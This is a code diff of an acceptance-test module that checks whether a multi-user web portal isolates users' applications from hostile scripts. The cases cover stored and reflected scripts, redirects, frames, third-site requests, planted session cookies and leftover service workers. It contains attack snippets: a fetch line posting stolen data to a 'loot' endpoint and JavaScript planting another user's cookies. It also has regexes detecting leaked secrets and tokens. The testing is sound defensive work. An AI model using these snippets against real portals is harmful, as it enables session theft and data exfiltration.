@@ -5,58 +5,85 @@ from __future__ import annotations
 import json
 import os
 import re
-import subprocess
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterable
 from dataclasses import dataclass, field
 from pathlib import Path
 from typing import Any, Final
 from urllib.parse import quote
 
 from lab.portal import Curl
-from lab.processes import PYTHON, free_port
+from lab.processes import free_port
 from playwright.sync_api import Error
 
-from tests.acceptance.browsers import KINDS
-from tests.acceptance.lab_of import Embedded, Lab, NotHeld
+from tests.acceptance.browsers import KINDS, LETS_SCRIPTS_TAKE_PREFIXES
+from tests.acceptance.lab_of import Lab, NotHeld
 from tests.acceptance.site_of import LocalSite
 from tests.acceptance.third_site import ThirdSite
+from tests.acceptance.weak_of import SENDING, Weak, script, weak
 from tests.acceptance.webdriver import WebDriverError
 
 BROWSERS = KINDS
 # Where applications are: each at an origin of its own, together on one host, together on one port, on *.localhost.
 SETUPS: Final = ("label", "host", "port", "embedded")
-# By name only: the old way, as a control. Most of this does not hold there.
+# By name only: the old way, as a control. What is taken there must be taken, or the others show nothing.
 _OLD: Final = "portal"
-_HERE: Final = Path(__file__).parent
-_SCRIPT: Final = (_HERE / "hostile.js").read_text()
+_APART: Final = ("label", "embedded")
+_TOGETHER: Final = ("host", "port", _OLD)
+_SHARED: Final = ("label", *_TOGETHER)
+_FORWARD: Final = "alices-lab"
 _SECRET: Final = "file of alice"
 # What nobody but alice may be told.
 _TELLING: Final = re.compile(rf"{_SECRET}|scp_[0-9a-f]{{64}}|Sign out|secret\.txt</|is open\"")
-_SENDING: Final = "rob().then((got) => fetch('loot', {method: 'POST', body: JSON.stringify(got)}));"
+# What hostile.js asks for and its viewers' own pages do not; the audit must not tell that it was served in their name.
+_ASKS: Final = re.compile(
+    r"(GET|PUT) /dav/~/(secret|planted)\.txt|PROPFIND /dav/~/|(GET|POST) /tokens|(GET|POST) /api/(jobs|keys|events)"
+)
+# Seconds that what must not run is waited for; where it may, it has begun after one and ended after six.
+_WATCH: Final = 8.0
+_PLANT: Final = """([pairs, domain]) => {
+  for (const pair of pairs) document.cookie = `${pair}; Domain=${domain}; Path=/dav; Secure`;
+}"""
+# Whether a service worker could be registered, once it serves its pages.
+_REGISTER: Final = """async () => {
+  const ended = new Promise((done) => setTimeout(done, 20000));
+  const ready = navigator.serviceWorker?.register('sw.js', {scope: './'}).then(() => navigator.serviceWorker.ready);
+  try { return Boolean(await Promise.race([ready, ended])); } catch { return false; }
+}"""
+_REGISTERED: Final = "async () => ((await navigator.serviceWorker?.getRegistrations()) ?? []).length"
+
+
+class Taken(NotHeld):
+    """Something of hers is in other hands."""
 
 
 @dataclass
 class Scene:
-    """Alice, signed in in a browser, and those around her.
+    """Somebody, signed in in a browser, and those around them.
 
     :ivar url: of the portal.
     :ivar hers, bobs: applications with faults; the one is hers, the other is bob's, who shares it with her.
     :ivar enter: has somebody signed in in her browser.
+    :ivar audit: all lines of the portal's audit.
     :ivar page: the window that she looks at.
+    :ivar viewer: who it is that attacks must get nothing of.
+    :ivar others: more applications that a case started.
     """
 
     lab: Lab
     setup: str
     url: str
-    portal: LocalSite | Embedded
+    portal: Any
     third: ThirdSite
     curl: Curl
+    enter: Callable[[Scene, str], None]
+    audit: Callable[[], Iterable[str]]
     hers: Weak
     bobs: Weak
-    enter: Callable[[Scene, str], None]
     context: Any = None
     page: Any = None
+    viewer: str = "alice"
+    others: list[Weak] = field(default_factory=list)
 
     def address(self, weak: Weak, name: str) -> str:
         """An application's, as an attacker knows it: the portal's name and a path."""
@@ -68,21 +95,51 @@ class Scene:
         self.page.goto(f"{self.third.url}/page")
         self.page.click("#go")
 
+    def open(self, address: str, login: str, *, by_worker: bool = False) -> None:
+        """Have an application's page be looked at.
 
-@dataclass
-class Weak:
-    """One of weak.py's."""
+        :param by_worker: its service worker's instead.
+        :raises NotHeld: another is shown.
+        """
+        self.page.goto(address)
+        expected, end = f"{login} by worker" if by_worker else f"page of {login}", time.monotonic() + 20
+        while expected not in (text := self.page.inner_text("body")):
+            if time.monotonic() > end:
+                raise NotHeld(f"at {self.page.url} stands {text[:80]!r} and not {expected!r}")
+            time.sleep(0.1)  # what the last one left may be cleared first
 
-    process: subprocess.Popen[Any]
-    port: int
-    log: Path
-    seen: int = field(default=0)
+    def start(self, login: str, port: int) -> Weak:
+        """Another application with faults."""
+        self.others.append(weak(self.lab, self.url, login, port=port))
+        return self.others[-1]
+
+    def begin(self) -> None:
+        """Have what was so far count no more."""
+        for one in (self.hers, self.bobs):
+            one.forget()
+        for one in self.others:
+            one.stop()
+        self.third.loot.clear()
+        self.others.clear()
+        self.viewer = "alice"
+
+    def has_run(self) -> bool:
+        """Whether an attacker's script did."""
+        return self.hers.has_run or self.bobs.has_run or bool(self.third.loot)
 
     def loot(self) -> list[str]:
-        """What was sent to it since it was asked last."""
-        lines = self.log.read_text().splitlines()
-        new, self.seen = lines[self.seen :], len(lines)
-        return [json.loads(line) for line in new]
+        """What attackers' scripts sent home."""
+        return [*self.third.loot, *(text for one in (self.hers, self.bobs, *self.others) for text in one.loot)]
+
+    def served(self) -> list[str]:
+        """What the portal itself gave attackers' scripts in the viewer's name, says its audit."""
+        lines = [json.loads(line) for line in self.audit()]
+        if not lines:
+            raise NotHeld("the audit tells nothing")
+        hers = [one for one in lines if one["principal"] == self.viewer and one["target"] in ("", "worker")]
+        given = [one for one in hers if one["status"] in (101, 304) or one["status"] // 100 == 2]
+        asked = [f"{one['method']} {one['path']}" for one in given]
+        return [one for one in asked if _ASKS.fullmatch(one)]
 
 
 @dataclass(frozen=True)
@@ -93,20 +150,20 @@ class Case:
     :ivar seen: what it gave before applications left the portal's origin.
     :ivar does: it.
     :ivar runs: where the script must have run for the case to show anything; None where it must not.
+    :ivar where: the set-ups that have it.
     :ivar within: seconds.
-    :ivar needs_two: it is about two people who use one browser.
     """
 
     name: str
     seen: str
     does: Callable[[Scene], None]
     runs: Callable[[Scene], Weak | ThirdSite | None]
-    within: float = 40
-    needs_two: bool = False
+    where: tuple[str, ...] = (*SETUPS, _OLD)
+    within: float = 60
 
 
 def run(lab: Lab) -> None:
-    """See the module's first line; ``SETUP`` picks one of the set-ups."""
+    """See the module's first line; ``SETUP`` picks set-ups, ``CASE`` (a regular expression) cases by name."""
     failed: list[str] = []
     for setup in os.environ.get("SETUP", " ".join(SETUPS)).split():
         failed += [f"{setup}: {what}" for what in _in(lab, setup)]
@@ -120,65 +177,109 @@ def _in(lab: Lab, setup: str) -> list[str]:
     (home / "secret.txt").write_text(_SECRET)
     os.chown(home / "secret.txt", lab.accounts["alice"].uid, lab.accounts["alice"].gid)
     (home / "secret.txt").chmod(0o600)
+    if scene.curl(f"{scene.url}/dav/~/secret.txt").text != _SECRET:
+        raise NotHeld("what attackers ask for is not there")
     failed = []
     with lab.browser(ca, *rules) as browser:
         for case in CASES:
-            if case.needs_two and setup == "embedded":
-                continue  # one person, whose origins name them
+            if setup not in case.where or not re.search(os.environ.get("CASE", ""), case.name):
+                continue
             scene.context = browser.new_context()
             scene.page = scene.context.new_page()
             scene.enter(scene, "alice")
+            begin = time.monotonic()
             try:
-                _try(scene, case)
+                said = _judged(scene, case)
             except (NotHeld, TimeoutError, WebDriverError, Error) as error:
                 failed.append(f"{case.name}: {error}")
-                lab.saw(f"{setup}: DID NOT HOLD: {failed[-1]}")
+                said = f"DID NOT HOLD: {error}"
+            lab.saw(f"{setup}: {case.name}: {said} ({time.monotonic() - begin:.1f} s)")
             scene.context.close()
+    scene.begin()
     scene.portal.portal.stop()
-    for weak in (scene.hers, scene.bobs):
-        weak.process.terminate()
+    for one in (scene.hers, scene.bobs):
+        one.stop()
     return failed
 
 
+def _judged(scene: Scene, case: Case) -> str:
+    """What is said of a case that held.
+
+    :raises NotHeld: it did not; in the old way, it did though there it cannot.
+    """
+    must_take = scene.setup == _OLD and case.seen == _TAKEN
+    try:
+        _try(scene, case)
+    except Taken as error:
+        if not must_take:
+            raise
+        for witness in ("the attacker has", "the audit says", "her home has"):
+            if witness not in str(error):
+                raise NotHeld(f"not a word of what {witness!r} says: {error}") from None
+        return f"taken, as it must be here: {error}"
+    if must_take:
+        raise NotHeld("nothing was taken in the old way, so what holds elsewhere shows nothing")
+    return "nothing"
+
+
 def _try(scene: Scene, case: Case) -> None:
-    begin = time.monotonic()
-    for weak in (scene.hers, scene.bobs):
-        weak.loot()
-    scene.third.loot.clear()
+    scene.begin()
     home = scene.lab.accounts["alice"].home
     for planted in set(home.glob("*.txt")) - {home / "secret.txt"}:
         planted.unlink()
+    before = len(scene.served())
     case.does(scene)
-    where, loot = case.runs(scene), []
-    while time.monotonic() - begin < case.within:
-        loot = [*scene.hers.loot(), *scene.bobs.loot(), *scene.third.loot]
-        if loot or where is None:
-            break
+    where, end = case.runs(scene), time.monotonic() + (case.within if case.runs(scene) else _WATCH)
+    while time.monotonic() < end and not (where and where.loot):
+        if where is None and scene.has_run():
+            raise NotHeld(f"the script ran, from {scene.page.url}")
         time.sleep(0.1)
-    if where is not None and not loot:
+    if where is not None and not where.loot:
         raise NotHeld(f"the script did not run, so nothing is shown; alice is at {scene.page.url}")
-    told = [found[0] for text in loot if (found := _TELLING.search(text))]
-    at = scene.page.url
-    if told:
-        raise NotHeld(f"from {at} the attacker has {sorted(set(told))} (before: {case.seen})")
-    files = sorted(one.name for one in home.glob("*.txt"))
-    if files != ["secret.txt"]:
-        raise NotHeld(f"her home has {files}")
+    _nothing_taken(scene, home, before)
+
+
+def _nothing_taken(scene: Scene, home: Path, before: int) -> None:
+    """Ask those who know: who got something, the portal's audit, her home, her tokens and keys.
+
+    :param before: how much the audit told when it began.
+    :raises Taken: one of them says that there is.
+    """
+    told = [found[0] for text in scene.loot() if (found := _TELLING.search(text))]
+    taken = [f"the attacker has {sorted(set(told))}"] if told else []
+    if served := scene.served()[before:]:
+        taken.append(f"the audit says that it was served {sorted(set(served))}")
+    files = {one.name: one.read_text() for one in home.glob("*.txt")}
+    if files != {"secret.txt": _SECRET}:
+        taken.append(f"her home has {files}")
     if "stolen" in scene.curl(f"{scene.url}/tokens").text + scene.curl(f"{scene.url}/api/keys").text:
-        raise NotHeld("a token or a key was made")
-    scene.lab.saw(f"{scene.setup}: {case.name}: nothing ({time.monotonic() - begin:.1f} of {case.within:.0f} s)")
+        taken.append("a token or a key was made")
+    if taken:
+        raise Taken(f"at {scene.page.url} " + "; ".join(taken))
 
 
 def _site(lab: Lab, setup: str) -> tuple[Scene, Path, list[str]]:
     how = {"apart": "host", "front": 'paths = "portal"\n'} if setup == _OLD else {"apart": setup}
-    site = LocalSite(lab, "portal.test", plain_first=True, **how)
+    folder = lab.folder / f"forwards-{setup}"
+    _ = lab.accounts
+    folder.mkdir()
+    folder.chmod(0o1777)
+    more = f'[forwards]\ndirectory = "{folder}"\n'
+    site = LocalSite(lab, "portal.test", plain_first=True, more=more, **how)
     third = ThirdSite(site.certificates)
     rules = [f"--host-resolver-rules=MAP * {site.address}"]
 
     def enter(scene: Scene, login: str) -> None:
         site.enter(scene.context, login)
 
-    scene = Scene(lab, setup, site.url, site, third, site.of("alice"), *_applications(lab, site.url), enter)
+    def audit() -> list[str]:
+        return site.audit.read_text().splitlines()
+
+    scene = Scene(lab, setup, site.url, site, third, site.of("alice"), enter, audit, *_applications(lab, site.url))
+    alice, file = lab.accounts["alice"], folder / _FORWARD
+    file.write_text(f"http://localhost:{scene.hers.port}/\n")
+    os.chown(file, alice.uid, alice.gid)
+    file.chmod(0o700)
     return scene, site.ca, rules
 
 
@@ -188,24 +289,18 @@ def _embedded(lab: Lab) -> tuple[Scene, Path, list[str]]:
     def enter(scene: Scene, _: str) -> None:
         scene.page.goto(portal.fresh_link())
 
+    def audit() -> list[str]:
+        """They are in its log."""
+        return [line[line.index("{") :] for line in portal.portal.printed if '{"time"' in line]
+
     third = ThirdSite(None)  # its authority signs for nobody else
-    scene = Scene(lab, "embedded", portal.url, portal, third, portal.curl, *_applications(lab, portal.url), enter)
+    applications = _applications(lab, portal.url)
+    scene = Scene(lab, "embedded", portal.url, portal, third, portal.curl, enter, audit, *applications)
     return scene, portal.ca, ["--host-resolver-rules=MAP * 127.0.0.1"]
 
 
 def _applications(lab: Lab, url: str) -> tuple[Weak, Weak]:
-    return _weak(lab, url, "alice"), _weak(lab, url, "bob", gid="proj")
-
-
-def _weak(lab: Lab, url: str, login: str, *, port: int = 0, gid: str | None = None) -> Weak:
-    number = len(list(lab.folder.glob("weak-*.log")))
-    log, script = lab.folder / f"weak-{number}.log", lab.folder / f"weak-{number}.js"
-    log.touch()
-    log.chmod(0o666)
-    script.write_text(_SCRIPT.replace("PORTAL", json.dumps(url), 1) + _SENDING)
-    argv = [PYTHON, str(lab.copies.of(_HERE / "weak.py")), str(port), login, str(script), str(log)]
-    process = lab.accounts.run_as(login, argv, gid=gid, stdout=subprocess.PIPE, text=True)
-    return Weak(process, int(process.stdout.readline()), log)
+    return weak(lab, url, "alice"), weak(lab, url, "bob", gid="proj")
 
 
 def _link(scene: Scene) -> None:
@@ -221,15 +316,20 @@ def _ondemand(scene: Scene) -> None:
     scene.follow(f'<a id="go" href="{scene.url}/node/localhost/{scene.hers.port}/stored">go</a>')
 
 
-def _form(scene: Scene) -> None:
+def _posted_form(scene: Scene) -> None:
     address = scene.address(scene.hers, "stored")
     scene.follow(f'<form method="post" action="{address}"><button id="go">go</button></form>')
 
 
+def _form(scene: Scene) -> None:
+    scene.follow(f'<form action="{scene.address(scene.hers, "stored")}"><button id="go">go</button></form>')
+
+
 def _window(scene: Scene) -> None:
     address = scene.address(scene.hers, "stored")
-    with scene.context.expect_page():
+    with scene.context.expect_page() as opened:
         scene.follow(f"""<button id="go" onclick="self.other = window.open('{address}')">go</button>""")
+    scene.page = opened.value
 
 
 def _redirect(scene: Scene) -> None:
@@ -238,6 +338,15 @@ def _redirect(scene: Scene) -> None:
 
 def _base(scene: Scene) -> None:
     scene.follow(f'<base href="{scene.url}/"><a id="go" href="fw2/localhost:{scene.hers.port}/stored">go</a>')
+
+
+def _named(scene: Scene) -> None:
+    scene.follow(f'<a id="go" href="{scene.url}/fw/{_FORWARD}/stored">go</a>')
+
+
+def _plain_label(scene: Scene) -> None:
+    address = scene.portal.own(scene.hers.port if scene.setup == "embedded" else f"localhost-{scene.hers.port}")
+    scene.follow(f'<a id="go" href="{address}/stored">go</a>')
 
 
 def _shared(scene: Scene) -> None:
@@ -251,8 +360,7 @@ def _frame(scene: Scene) -> None:
 
 
 def _direct(scene: Scene) -> None:
-    script = _SCRIPT.replace("PORTAL", json.dumps(scene.url), 1)
-    scene.follow(f"<script>{script}</script><button id='go' onclick=\"{_SENDING}\">go</button>")
+    scene.follow(f"<script>{script(scene.url)}</script><button id='go' onclick=\"{SENDING}\">go</button>")
 
 
 def _posted(scene: Scene) -> None:
@@ -260,28 +368,75 @@ def _posted(scene: Scene) -> None:
     scene.follow(f'<form method="post" action="{scene.url}/tokens">{fields}<button id="go">go</button></form>')
 
 
-def _worker(scene: Scene) -> None:
+def _planted(scene: Scene) -> None:
+    """What alice does among her files counts for bob nowhere unless she is told: his session came beside hers."""
+    name = scene.portal.hostname
+    pairs = scene.portal.of("bob").cookie_header(name).split("; ")
+    scene.open(scene.address(scene.hers, "page"), "alice")
+    files, said = scene.context.new_page(), []
+    for _ in range(2):
+        scene.page.evaluate(_PLANT, [pairs, name])
+        files.goto(f"{scene.url}/dav/~/")
+        said.append(files.inner_text("body"))
+    beside, alone = said
+    if scene.lab.kind not in LETS_SCRIPTS_TAKE_PREFIXES:
+        if "alice" not in beside or "alice" not in alone:
+            raise NotHeld(f"alice is shown {said}")
+        return
+    if "two cookies" not in beside or "Sign in again" not in beside:
+        raise NotHeld(f"beside her own it is not refused with words: {beside!r}")
+    if "bob" not in alone or "alice" in alone:
+        raise NotHeld(f"alone it does not say whose it is: {alone!r}")
+
+
+def _carols_worker(scene: Scene) -> None:
+    _worker(scene, "carol", "alice")
+
+
+def _alices_worker(scene: Scene) -> None:
+    _worker(scene, "alice", "bob")
+
+
+def _worker(scene: Scene, login: str, second: str) -> None:
     """What a first person's application left in the browser serves nobody else, though the address is the same."""
-    port = free_port()
-    first = _weak(scene.lab, scene.url, "carol", port=port)
-    scene.enter(scene, "carol")
-    scene.page.goto(scene.address(first, "page"))
-    if "page of carol" not in scene.page.inner_text("body"):
-        raise NotHeld(f"carol's application is not at {scene.page.url}")
-    scene.page.evaluate("navigator.serviceWorker.register('sw.js', {scope: './'}).catch(() => {})")
-    first.process.terminate()
-    first.process.wait()
-    scene.page.goto(f"{scene.url}/open/")
-    with scene.page.expect_navigation():
-        scene.page.click("text=Sign out everywhere")
-    scene.enter(scene, "alice")
-    second = _weak(scene.lab, scene.url, "alice", port=port)
-    scene.page.goto(scene.address(second, "page"))
-    text = scene.page.inner_text("body")
-    second.process.terminate()
-    second.process.wait()
-    if "page of alice" not in text:
-        raise NotHeld(f"at {scene.page.url} stands {text[:80]!r}")
+    port, page, scene.viewer = free_port(), scene.page, second
+    first = scene.start(login, port)
+    scene.enter(scene, login)
+    scene.open(scene.address(first, "page"), login)
+    firsts = page.url
+    page.evaluate(_REGISTER)  # where several people are, the portal answers with one that ends itself
+    scene.open(firsts, login, by_worker=scene.setup in _APART)
+    first.stop()
+    page.goto(f"{scene.url}/open/")
+    with page.expect_navigation():
+        page.click("text=Sign out everywhere")
+    scene.enter(scene, second)
+    scene.start(second, port)
+    scene.open(scene.address(first, "page"), second)
+    if workers := page.evaluate(_REGISTERED):
+        raise NotHeld(f"at {page.url} are {workers} service workers")
+    page.goto(firsts)  # where the worker is, if it is; it asks the portal for the second one's things now
+
+
+def _asked_first(does: Callable[[Scene], None]) -> Callable[[Scene], None]:
+    """A link leads to a page that asks."""
+
+    def do(scene: Scene) -> None:
+        does(scene)
+        scene.page.get_by_role("link", name="Go on").wait_for()
+
+    return do
+
+
+def _gone_on(does: Callable[[Scene], None]) -> Callable[[Scene], None]:
+    """The same, and the person goes on."""
+    asked = _asked_first(does)
+
+    def do(scene: Scene) -> None:
+        asked(scene)
+        scene.page.get_by_role("link", name="Go on").click()
+
+    return do
 
 
 def _nobody(_: Scene) -> None:
@@ -297,18 +452,41 @@ def _at_bobs(scene: Scene) -> Weak | None:
     return scene.bobs if scene.setup == "label" else None
 
 
+def _ways(
+    name: str,
+    does: Callable[[Scene], None],
+    runs: Callable[[Scene], Weak | None],
+    where: tuple[str, ...] = (*SETUPS, _OLD),
+) -> list[Case]:
+    """A link: where applications are together, a person is asked first, and may go on."""
+    together = tuple(one for one in where if one in _TOGETHER)
+    return [
+        Case(name, _TAKEN, does, runs, tuple(one for one in where if one in _APART)),
+        Case(f"{name}, and no click on what asks", "the same", _asked_first(does), _nobody, together),
+        Case(f"{name}, and a click on what asks", _TAKEN, _gone_on(does), runs, together),
+    ]
+
+
 _TAKEN = "a token, and her files of mode 0600"
+_FIRSTS = "the first one's page"
 CASES: Final = (
-    Case("a link to a script stored in her own application", _TAKEN, _link, _at_hers),
-    Case("a link to one that it reflects", _TAKEN, _reflected, _at_hers),
-    Case("a link by Open OnDemand's address", _TAKEN, _ondemand, _at_hers),
-    Case("a form that is posted to it", "nothing", _form, _nobody),
-    Case("a window that is opened at it", _TAKEN, _window, _at_hers),
-    Case("a redirect to it", _TAKEN, _redirect, _at_hers),
-    Case("a <base> that makes a link lead to it", _TAKEN, _base, _at_hers),
+    *_ways("a link to a script stored in her own application", _link, _at_hers),
+    *_ways("a link to one that it reflects", _reflected, _at_hers),
+    *_ways("a link by Open OnDemand's address", _ondemand, _at_hers),
+    *_ways("a link by the name of her forward", _named, _at_hers, _SHARED),
+    *_ways("a link by its plain label", _plain_label, _at_hers, _APART),
+    *_ways("a form that leads to it", _form, _at_hers),
+    *_ways("a window that is opened at it", _window, _at_hers),
+    *_ways("a redirect to it", _redirect, _at_hers),
+    *_ways("a <base> that makes a link lead to it", _base, _at_hers),
+    Case("a form that is posted to it", "nothing", _posted_form, _nobody),
     Case("a frame around it", "nothing", _frame, _nobody),
-    Case("a link to bob's application, which he shares", "nothing", _shared, _at_bobs),
+    Case("a link to bob's application, which he shares", "nothing", _shared, _at_bobs, _APART),
+    Case("the same, and no click on what asks", "nothing", _asked_first(_shared), _nobody, _TOGETHER),
+    Case("the same, and a click on what asks", "nothing", _gone_on(_shared), _nobody, _TOGETHER),
     Case("fetch, frame, window and WebSocket of a third site", "nothing", _direct, lambda scene: scene.third),
     Case("a form of a third site that makes a token", "nothing", _posted, _nobody),
-    Case("a service worker of an earlier owner of the port", "the first one's page", _worker, _nobody, needs_two=True),
+    Case("bob's session planted among her files by a script", "bob's session in WebKit", _planted, _nobody, _SHARED),
+    Case("carol's service worker where alice is next", _FIRSTS, _carols_worker, _nobody, _SHARED),
+    Case("alice's service worker where bob is next", _FIRSTS, _alices_worker, _nobody, _SHARED),
 )
